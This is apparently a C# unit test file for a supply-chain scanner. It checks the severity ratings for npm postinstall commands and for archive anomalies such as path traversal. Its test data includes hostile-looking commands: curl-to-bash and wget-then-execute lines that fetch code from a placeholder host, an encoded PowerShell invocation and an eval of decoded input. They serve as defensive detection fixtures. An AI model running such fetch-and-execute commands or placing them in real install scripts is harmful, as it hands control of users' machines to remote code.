using Mtf.Artifacts;
using Mtf.Checks.Behavior.HostileContainer;
using Mtf.Checks.Behavior.InstallScript;
using Mtf.Findings;
using Mtf.Inventories;
using Xunit;

namespace Mtf.Tests.Checks.Behavior;

public sealed class InstallScriptTests
{
    [Theory]
    [InlineData("curl -sL https://acme.test/x | bash", Severity.Critical)]
    [InlineData("wget https://acme.test/x -O x && chmod +x x && ./x", Severity.Critical)]
    [InlineData("curl -O https://acme.test/model.bin", Severity.High)]
    [InlineData("powershell -enc SQBFAFgA", Severity.High)]
    [InlineData("node -e \"eval(atob('YQ=='))\"", Severity.High)]
    [InlineData("node -e \"require('./dist/setup')\"", Severity.Medium)]
    [InlineData("node scripts/postinstall.js", Severity.Medium)]
    [InlineData("node-gyp rebuild", Severity.Low)]
    [InlineData("prebuild-install || node-gyp rebuild", Severity.Low)]
    [InlineData("node-gyp-build", Severity.Low)]
    [InlineData("prebuild-install && node evil.js", Severity.Medium)]
    [InlineData("husky install", Severity.Info)]
    [InlineData("husky || true", Severity.Info)]
    [InlineData("husky; node evil.js", Severity.Medium)]
    [InlineData("patch-package", Severity.Info)]
    public void Judges_a_script_by_what_it_does(string command, Severity severity)
    {
        var inventory = new Inventory { Name = "example", InstallScripts = new Dictionary<string, string> { ["postinstall"] = command } };

        var result = new InstallScriptCheck().Run(TestEvidence.Of(new MemoryTree(("package.json", "{}")), inventory));

        Assert.Equal(severity, Assert.Single(Assert.IsType<Evidence<IReadOnlyList<Finding>>.Collected>(result).Value).Severity);
    }

    [Theory]
    [InlineData("path-traversal", Severity.High)]
    [InlineData("absolute-path", Severity.High)]
    [InlineData("device", Severity.High)]
    [InlineData("link", Severity.High)]
    [InlineData("something-new", Severity.High)]
    [InlineData("duplicate-name", Severity.Medium)]
    [InlineData("case-collision", Severity.Medium)]
    [InlineData("trailing-data", Severity.Low)]
    public void Judges_a_container_by_its_entries(string kind, Severity severity)
    {
        var evidence = TestEvidence.Of(new MemoryTree(("package.json", "{}"))) with { Anomalies = [new ContainerAnomaly(kind, "a", "A detail.")] };

        var result = new HostileContainerCheck().Run(evidence);

        Assert.Equal(severity, Assert.Single(Assert.IsType<Evidence<IReadOnlyList<Finding>>.Collected>(result).Value).Severity);
    }
}
